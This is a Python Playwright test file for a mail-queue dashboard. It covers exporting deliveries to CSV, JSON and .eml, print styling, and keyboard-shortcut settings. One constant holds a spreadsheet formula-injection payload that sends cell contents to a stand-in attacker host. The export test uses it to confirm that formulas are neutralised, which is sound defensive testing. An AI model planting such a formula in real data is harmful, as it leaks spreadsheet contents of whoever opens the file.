"""What makes a day's work easier: taking a list along, printing it, and doing without single keys."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import TYPE_CHECKING

from playwright.sync_api import expect

from queueapp import events
from queueapp.access.change import COMMAND
from queueapp.operations import actions, run
from queueapp.operations.export import COLUMNS
from tests.browser.conftest import Screen
from tests.browser.pages import HTML
from tests.dashboard.rows import HOSTILE, SOURCE, a_delivery, a_message

if TYPE_CHECKING:
    from playwright.sync_api import Page

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet takes for a formula
PATIENCE = 30_000  # ms
MADE_VISIBLE = "node => node.checkVisibility({ visibilityProperty: true })"

# What ends below the strip's upper edge when the page is scrolled to its end.
HIDDEN = """() => {
    window.scrollTo({ top: document.documentElement.scrollHeight, behavior: "instant" });
    const strip = document.getElementById("operations").getBoundingClientRect();
    return [...document.querySelectorAll("main button, main a, main input, main p")]
        .filter(node => node.checkVisibility() && !node.closest("dialog"))
        .filter(node => node.getBoundingClientRect().bottom > strip.top + 1)
        .map(node => node.textContent.trim() || node.id);
}"""


def three(page_of: Screen, path: str) -> Page:
    """Two that mean harm to a spreadsheet, and one that is left alone."""
    a_delivery(a_message(SOURCE, subject="Left alone"), recipient="c@example.com", state="held")
    a_delivery(
        a_message(HTML, subject=FORMULA, sender="+1@example.org"), recipient="@b", state="deferred",
        last_class="other", last_text="-2+3", last_host="\tmx.example.com",
    )  # fmt: skip
    a_delivery(a_message(SOURCE, subject=HOSTILE), recipient="a@example.com", state="deferred")
    return page_of.open_live(path)


def exported(page: Page, words: str) -> bytes:
    page.click("#bar >> text=Export")
    with page.expect_download() as download:
        page.click(f"#bar >> text={words}")
    return download.value.path().read_bytes()


def test_what_is_ticked_is_taken_along(operator: Screen) -> None:
    page = three(operator, "/deliveries")
    for place in (0, 1):
        page.locator("input.tick").nth(place).check()
    table = list(csv.DictReader(io.StringIO(exported(page, "CSV").decode(), newline="")))
    assert list(table[0]) == list(COLUMNS)
    assert [row["subject"] for row in table] == [HOSTILE, f"'{FORMULA}"]
    assert (table[1]["to"], table[1]["from"], table[1]["reply"]) == ("'@b", "'+1@example.org", "'-2+3")
    opens = [value for row in table for value in row.values() if value.startswith(STARTS)]
    assert opens == [], "a spreadsheet would run these"
    lines = [json.loads(line) for line in exported(page, "JSON").splitlines()]
    assert [line["subject"] for line in lines] == [HOSTILE, FORMULA], "data stays as it is"
    with zipfile.ZipFile(io.BytesIO(exported(page, ".eml"))) as mails:
        assert sorted(map(mails.read, mails.namelist())) == sorted([HTML, SOURCE])
    expect(page.locator("#bar")).to_contain_text("2 deliveries ticked")
    page.click("text=Clear")
    page.check(".tick-all")
    assert len(exported(page, "CSV").decode().splitlines()) == 1 + 3
    assert operator.complaints == []


def test_paper_has_what_is_known_and_nothing_to_press(operator: Screen) -> None:
    page = three(operator, "/deliveries")
    message = page.get_attribute("#results tr:has-text('evil') a", "href")
    page.evaluate("document.documentElement.dataset.bsTheme = 'dark'")
    page.check(".tick-all")
    expect(page.locator("#bar")).to_be_visible()
    page.emulate_media(media="print")
    for gone in (".top", "#dock", "#bar", "form[role=search]", ".c-tick", ".pages", "#live"):
        assert not any(page.locator(gone).evaluate_all(f"nodes => nodes.map({MADE_VISIBLE})")), gone
    for kept in (
        "h1",
        "#results thead",
        "#results tbody tr:nth-child(3)",
        ".c-why .reply:not(:empty)",
        ".state",
    ):
        assert page.locator(kept).first.evaluate(MADE_VISIBLE), kept
    colours = page.evaluate(
        "[...document.querySelectorAll('body, h1, .panel, #results a, #results .reply, .state')]"
        ".map(node => getComputedStyle(node)).map(({ color, backgroundColor }) => [color, backgroundColor])"
    )
    assert {ink for ink, _ in colours} <= {"rgb(0, 0, 0)", "rgb(51, 51, 51)"}, "dark on white"
    assert {paper for _, paper in colours} <= {"rgb(255, 255, 255)", "rgba(0, 0, 0, 0)"}
    assert page.pdf().startswith(b"%PDF")
    assert "Printed" in (page.get_attribute("body", "data-printed") or "")
    page.emulate_media(media="screen")
    page.goto(f"http://{operator.address}{message}")
    page.emulate_media(media="print")
    assert not page.locator("iframe.mail-html").evaluate(MADE_VISIBLE)
    for kept in ("#text-pane", "#headers-pane", "text=text/html; charset=utf-8"):
        assert page.locator(kept).first.evaluate(MADE_VISIBLE), f"a mail on paper lacks {kept}"


def test_single_keys_are_switched_off_and_stay_off(operator: Screen) -> None:
    page = three(operator, "/deliveries")
    press = page.keyboard.press
    press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.uncheck("#keys-on")
    press("Escape")
    expect(page.locator("#keys")).to_be_hidden()
    for _ in range(2):  # now, and on the page that is loaded anew
        for key in ("?", "j", "x", "h", "g", "o"):
            press(key)
        assert page.locator("dialog[open], input.tick:checked").count() == 0
        assert page.evaluate(
            "document.activeElement === document.body || !document.activeElement.closest('tr')"
        )
        assert page.url.endswith("/deliveries")
        page.reload()
        page.wait_for_selector("[data-live-state=live]")
    page.click("[aria-label^='Account of']")
    page.click("[data-keys-help]")
    assert not page.is_checked("#keys-on")
    page.check("#keys-on")
    press("Escape")
    press("j")
    press("x")
    expect(page.locator("#bar")).to_contain_text("1 delivery ticked")
    assert operator.complaints == []


def test_nothing_stays_behind_the_strip_of_operations(operator: Screen) -> None:
    three(operator, "/deliveries")
    actions.create(COMMAND, "hold", q="state:deferred", expect=2)  # waits for a worker, so its card stays
    page = operator.page
    page.set_viewport_size({"width": 1360, "height": 1000})
    for path in ("/keys", "/account", "/people", "/routes", "/silences"):
        operator.open_live(path)
        expect(page.locator("#operations article")).to_be_visible()
        page.wait_for_function("() => document.documentElement.style.getPropertyValue('--dock') !== '0px'")
        hidden = page.evaluate(HIDDEN)
        assert hidden == [], f"{path}: {hidden} can't be scrolled out from under the strip"
        for button in page.locator("main form button[type=submit]:visible").all():
            button.click(trial=True)  # reachable by a mouse, as it is
    for n in range(5):
        actions.create(COMMAND, "hold", q="state:deferred", expect=2, reason=f"Number {n}")
    events.publish("operations")
    cards = page.locator("#operations article")
    expect(cards).to_have_count(6, timeout=PATIENCE)
    run.work(10)
    events.publish("operations")
    expect(cards).to_have_count(4, timeout=PATIENCE)  # a tab that stays open gathers no more of what is over
    expect(cards.first).to_contain_text("left alone")
